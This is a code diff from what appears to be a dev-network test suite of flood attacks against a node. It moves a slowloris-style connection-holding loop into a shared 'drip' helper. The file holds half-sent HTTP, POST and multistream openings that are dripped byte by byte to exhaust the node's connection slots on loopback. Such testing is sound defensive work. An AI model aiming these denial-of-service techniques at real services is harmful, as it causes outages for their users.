@@ -5,7 +5,7 @@ from __future__ import annotations
 import trio
 
 from devnet.proofs.flood.attack import Door, attack
-from devnet.proofs.flood.http_client import LOOPBACK
+from devnet.proofs.flood.dripping import BROKEN, drip
 from devnet.proofs.flood.scene import SOURCE_ADDRESS, Scene
 from devnet.proofs.flood.websocket_client import WebSocketError, open_socket
 
@@ -15,12 +15,10 @@ WEBSOCKETS = 150
 """More than the 100 that the RPC process takes by default."""
 OPENING_AT_ONCE = 64
 """A listener with a short queue forgets those that come together, and then they wait for seconds."""
-DRIP_SECONDS = 1.0
 AGAIN_SECONDS = 0.5
 HALF_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
 HALF_POST = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
 HALF_NEGOTIATION = b"\x13/multistream/1.0.0"
-BROKEN = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)
 
 
 async def _hold_all(scene: Scene, port: int, opening: bytes, count: int = MANY) -> None:
@@ -29,30 +27,7 @@ async def _hold_all(scene: Scene, port: int, opening: bytes, count: int = MANY) 
     await scene.begin()
     async with trio.open_nursery() as nursery:
         for _ in range(count):
-            nursery.start_soon(_hold, scene, port, opening, turn)
-
-
-async def _hold(scene: Scene, port: int, opening: bytes, turn: trio.Semaphore) -> None:
-    async for _ in scene.paced(1 / AGAIN_SECONDS, at_once=1):
-        try:
-            async with turn:
-                stream = await trio.open_tcp_stream(LOOPBACK, port, local_address=SOURCE_ADDRESS)
-        except BROKEN:
-            scene.note("refused")
-            continue
-        try:
-            await stream.send_all(opening)
-            scene.sent(1, len(opening))
-            while True:
-                with trio.move_on_after(DRIP_SECONDS):
-                    if not await stream.receive_some():
-                        break
-                await stream.send_all(b"x")
-        except BROKEN:
-            pass
-        finally:
-            await trio.aclose_forcefully(stream)
-        scene.note("closed by the node")
+            nursery.start_soon(drip, scene, port, opening, 1 / AGAIN_SECONDS, turn)
 
 
 @attack("M4", messages_max=200_000, doors=(Door.PEERS,))
